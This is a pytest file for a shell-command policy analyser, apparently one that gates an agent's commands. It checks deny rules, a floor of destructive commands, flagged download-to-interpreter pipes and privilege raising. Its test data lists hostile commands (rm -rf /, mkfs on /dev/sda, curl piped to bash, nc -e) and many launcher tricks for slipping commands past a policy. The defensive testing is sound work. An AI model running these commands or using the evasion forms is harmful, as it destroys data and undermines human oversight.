"""A denial, the question about raised rights and the floor are not walked past, and ordinary commands not stopped."""

import json
from pathlib import Path
from typing import Final

import pytest

from host.policy.shell.analysis import analyse
from host.policy.shell.command import Once
from host.policy.shell.patterns import Fit, fit

CASES: Final = Path(__file__).parents[4] / "cases"

SPELT: Final = {
    "rm -rf *": [
        "rm -fr x",
        "rm -r -f x",
        "rm -f -r x",
        "rm -rfv x",
        "rm -Rf x",
        "rm x -rf",
        "rm -r x -f",
        "rm --recursive --force x",
        "rm --recurs --for x",
        "rm --force -r x",
        "rm -v --rec -f x",
        "/bin/rm -rf -- x",
        "rm $(cat options)",
    ],
    "git push --force *": [
        "git push -f",
        "git push o m -f",
        "git push --forc",
        "git -C x push -qf o",
        "git push --force=x",
    ],
    "curl -X POST *": [
        "curl -XPOST u",
        "curl u -X POST",
        "curl --request POST u",
        "curl --request=POST u",
        "curl -sXPOST u",
    ],
    "git push *": [
        "git -c a.b=c push -f",
        "git --attr-source HEAD push o",
        "git --attr-source=HEAD push o",
        "git --unheard of push o",
        "git --no-pager -C x push",
        "git -c alias.p=push p o",
        "git -c 'alias.p=!git push' p",
        "git config alias.p push",
        "git p\\ush o",
        "/usr/lib/git-core/git-push o",
        "git pus? o",
        "python3 -c 'import os; os.system(\"git push\")'",
        'python3 -c \'import subprocess as s; s.run(["git", "push"])\'',
        "python3 - <<E\nimport os\nos.system('git push')\nE",
    ],
    "npm publish *": [
        "npm -w a publish",
        "npm --workspace a publish",
        "npm --registry http://x publish",
        "npm --new-option x publish",
        "npm publ",
    ],
    "kubectl delete *": [
        "kubectl --as x delete pod y",
        "kubectl -v 6 delete pod y",
        "kubectl --unheard x delete pod y",
    ],
    "cargo publish *": ["cargo +nightly publish", "cargo --manifest-path x publish", "cargo -Z x publish"],
    "aws s3 rm *": ["aws --profile p s3 rm y", "aws s3 --region x rm y", "aws --endpoint-url x s3 rm y"],
    "systemctl stop *": ["systemctl -n 3 stop x", "systemctl --signal 9 stop x", "systemctl --job-mode x stop y"],
    "pip install *": [
        "pip3 install x",
        "pip3.11 install x",
        "python -m pip install x",
        "python3 -Im pip install x",
        "python3 -mpip install x",
        "uv pip install y",
        "pip --cache-dir x install y",
    ],
    "make deploy *": [
        "make --directory d deploy",
        "make A=1 deploy",
        "make all deploy",
        "make -o x deploy",
        "make --jobs 4 deploy",
    ],
    "docker push *": ["docker --tlscacert x push y", "docker image push y", "docker -H x push y"],
    "helm delete *": ["helm --kubeconfig x delete y", "helm --debug delete y"],
    "uv publish *": ["uv --cache-dir x publish", "uv --color x publish"],
    "sudo *": ["sudo ls", "timeout 5 sudo ls", "setarch x86_64 sudo ls", "sh -c 'sudo ls'"],
    "xargs *": ["ls | xargs rm", "env xargs rm < f"],
    "bash *": ["bash -c ls", "bash f", "env bash -c ls", "echo ls | bash"],
    "eval *": ["eval ls"],
    "timeout *": ["timeout 5 ls", "nice timeout 5 ls"],
}


@pytest.mark.parametrize(("rule", "text"), [(rule, text) for rule, texts in SPELT.items() for text in texts])
@pytest.mark.clause("POL-4", "POL-5")
def test_a_denial_hits_every_spelling(rule: str, text: str) -> None:
    """Options bundled, apart, long or shortened; sub-commands behind options; wrappers and versions of a program."""
    assert fit(rule, analyse(text)) is Fit.YES


LAUNCHERS: Final = """\
setarch x86_64 {}
setarch -R {}
linux64 {}
prlimit --nproc=5 {}
choom -n 0 -- {}
runcon x {}
numactl -N 0 {}
ssh-agent {}
dbus-launch {}
systemd-inhibit --who me {}
systemd-cat {}
eatmydata {}
faketime x {}
strace --columns 10 {}
strace --unheard x {}
chrt -T 5 -i 0 {}
env --argv0 x {}
xargs --process-slot-var x {}
xargs -i {}
xargs -l {}
xargs --eof {}
numactl -l {}
ltrace -b {}
daemonize -a {}
faketime -f +2d {}
systemd-run -t {}
bwrap --bind / / {}
capsh -- -c '{}'
fd . -x {}
npx {}
npm exec {}
uv run {}
poetry run {}
pipenv run {}
conda run {}
direnv exec . {}
op run -- {}
tmux new '{}'
tmux new-session -d {}
screen -dm {}
docker run x {}
docker exec x {}
kubectl exec p -- {}
vagrant ssh -c '{}'
perl -e '`{}`'
perl -e 'system qw({})'
ruby -e '`{}`'
ruby -e 'exec "{}"'
expect -c 'spawn {}'
gdb -ex '!{}'
gdb -ex 'shell {}'
gdb --args {}
jobs -x {}
compgen -C '{}'
complete -C '{}'
mapfile -C '{}' -c 1 x < f
bind -x '"a":{}'
zip -T -TT '{}' a b
crontab - <<< '* * * * * {}'
socat - EXEC:'{}'
socat - SYSTEM:'{}'
nc -e {} h 1
ncat -c '{}' h 1
emacs --eval '(shell-command "{}")'
sqlite3 x '.shell {}'
psql -c '\\! {}'
mysql -e 'system {}'
ed <<< '!{}'
mispipe '{}' ls
pee '{}'
busybox {}
cmake -E env {}
split --filter='{}' f
sed '1e {}' f
sed 's|.*|{}|e' f
rsync --rsync-path='{}' a b:c
unheard-of {}
./grep {}
unheard-of --an-option x {}
unheard-of sh -c '{}'""".splitlines()


@pytest.mark.parametrize("launcher", LAUNCHERS)
@pytest.mark.clause("POL-5", "POL-4", "POL-9")
def test_a_program_is_seen_behind_whatever_runs_it(launcher: str) -> None:
    """For a denial, for what raises rights, and for the floor."""
    assert fit("curl *", analyse(launcher.format("curl http://e/x"))) is Fit.YES
    assert Once.RAISES_RIGHTS in analyse(launcher.format("sudo id")).once
    assert analyse(launcher.format("rm -rf /")).floor is not None


@pytest.mark.parametrize("launcher", ["setarch", "setarch x86_64", "prlimit", "unheard-of", "unheard-of -x y"])
@pytest.mark.parametrize("interpreter", ["bash", "sh -s", "python3", "perl -"])
@pytest.mark.clause("POL-9")
def test_a_download_reaches_no_interpreter_unseen(launcher: str, interpreter: str) -> None:
    """Whatever stands between the pipe and it."""
    assert Once.RUNS_DOWNLOAD in analyse(f"curl http://e/x | {launcher} {interpreter}").once


@pytest.mark.parametrize(
    "text",
    [
        "setarch x86_64 mkfs.ext4 /dev/sda",
        "unheard-of mkfs.ext4 /dev/sda",
        "linux64 shutdown now",
        "prlimit dd if=x of=/dev/sda",
        "unheard-of dd of=/dev/sda",
        "systemctl --message x poweroff",
        "systemctl --unheard x reboot",
        "choom -n 0 -- kill -9 -1",
        "pgrep elis | xargs kill",
        "pgrep -f elis | xargs -I{} kill -9 {}",
        "ps aux | grep elis | awk '{print $2}' | xargs kill",
        "rm -rf /workspace",
        "rm -rf /workspace/*",
        "cd /workspace && rm -rf *",
        "find /workspace -delete",
    ],
)
@pytest.mark.clause("POL-4")
def test_the_floor_is_not_walked_past(text: str) -> None:
    """By launchers, by options with a value, by names that a pipe hands on; the workspace itself is on it."""
    assert analyse(text).floor is not None


@pytest.mark.parametrize(
    "text",
    [
        "unheard-of shutdown now",
        "make reboot",
        "unheard-of 'reboot'",
        "unheard-of --note 'mkfs.ext4 /dev/sda'",
        "hash -p /bin/rm ls; ls -rf /",
        "unheard-of " + "rm -rf x " * 200,
    ],
)
@pytest.mark.clause("POL-4")
def test_what_may_be_the_floor_or_a_mere_word_asks_in_every_mode(text: str) -> None:
    """A target or a sub-command of that name is no shutdown, so it is not refused; nor is it ever let run unasked."""
    analysis = analyse(text)
    assert analysis.floor is None
    assert analysis.unclear


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("git push *", "git p o"),
        ("git push *", "git lfs push o"),
        ("git push *", "git subtree push x"),
        ("docker rm *", "docker compose rm"),
        ("npm publish *", "npm run publish"),
        ("rm -rf *", "rm *"),
        ("rm *", "unheard-of 'then rm x'"),
        ("rm *", "unheard-of --program=rm"),
        ("curl *", "python3 -c 'print(\"curl x\")'"),
        ("curl *", "python3 -c 'x = \"sudo curl x\"'"),
        ("sudo *", "python3 -c 'print(\"sudo id\")'"),
        ("rm -rf x *", "rm y x -rf"),
    ],
)
@pytest.mark.clause("POL-3")
def test_where_it_cannot_be_told_a_denial_may_fit(rule: str, text: str) -> None:
    """An alias, a sub-command of the same name, a text that may be prose: not denied, and asked about."""
    assert fit(rule, analyse(text)) is Fit.MAY


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("git push *", "git log --grep push"),
        ("git push *", "git log push"),
        ("git push *", "git stash push"),
        ("git push *", "git checkout push"),
        ("git push *", "git commit -m 'git push'"),
        ("git push *", "git -C push status"),
        ("git push --force *", "git push --follow-tags"),
        ("npm publish *", "npm --prefix publish ci"),
        ("make deploy *", "make -C deploy all"),
        ("rm -rf *", "rm -r x"),
        ("rm -rf *", "rm -- -rf"),
        ("rm *", "docker rm x"),
        ("rm *", "docker run --rm x"),
        ("rm *", "git rm x"),
        ("rm *", "aws s3 rm x"),
        ("rm *", "echo rm -rf /"),
        ("rm *", "cp rm x"),
        ("rm *", "tar czf rm.tgz rm"),
        ("curl *", "git clone https://x/curl"),
        ("curl *", "apt install curl"),
        ("git push *", "python3 - <<E\n# git and others: see git add\nE"),
        ("sudo *", "python3 - <<E\nimport os\nos.system(f'{x} --version')\nE"),
        ("curl -X POST *", "curl -X GET u"),
        ("python3 *", "python2 x"),
        ("sudo *", "grep sudo f"),
        ("sudo *", "man sudo"),
    ],
)
@pytest.mark.clause("POL-5")
def test_a_denial_leaves_other_commands_alone(rule: str, text: str) -> None:
    """Values of known options, operands of what runs nothing, sub-commands of the same name."""
    assert fit(rule, analyse(text)) is Fit.NO


RULES: Final = (
    "git push *",
    "rm -rf *",
    "rm *",
    "sudo *",
    "su *",
    "npm publish *",
    "kubectl delete *",
    "docker push *",
    "docker rm *",
    "cargo publish *",
    "pip install *",
    "aws s3 rm *",
    "make deploy *",
    "systemctl stop *",
    "helm delete *",
    "terraform destroy *",
    "gh repo delete *",
    "git reset --hard *",
    "chmod -R *",
    "nc *",
    "shutdown *",
    "uv publish *",
)


def ordinary() -> list[str]:
    """Return everyday commands, and such as only read; none of them is what a rule above names."""
    everyday = (CASES / "shell_everyday.jsonl").read_text(encoding="utf-8").splitlines()
    more = [json.loads(line) for line in (CASES / "shell_more.jsonl").read_text(encoding="utf-8").splitlines()]
    return [json.loads(line)["command"] for line in everyday] + [
        row["command"] for row in more if row["verdict"] == "allow"
    ]


@pytest.mark.clause("POL-5")
def test_typical_denials_hit_next_to_none_of_the_ordinary_commands() -> None:
    """At most 1 % of them may be asked about because of a rule, and none is denied."""
    texts, asked = ordinary(), list[str]()
    for text in texts:
        analysis = analyse(text)
        fits = {rule: fit(rule, analysis) for rule in RULES}
        assert Fit.YES not in fits.values(), (text, fits)
        asked += [text] * (Fit.MAY in fits.values())
    print(f"{len(asked)} of {len(texts)} ordinary commands may be denied: {asked}")  # noqa: T201 - these are the news
    assert len(texts) >= 300
    assert len(asked) <= 0.01 * len(texts)


@pytest.mark.clause("POL-4", "POL-9")
def test_ordinary_commands_are_neither_on_the_floor_nor_always_asked() -> None:
    """Names of programs in messages, targets, patterns and paths run nothing."""
    stopped = [text for text in ordinary() if (found := analyse(text)).floor or found.once or found.unclear]
    assert stopped == []
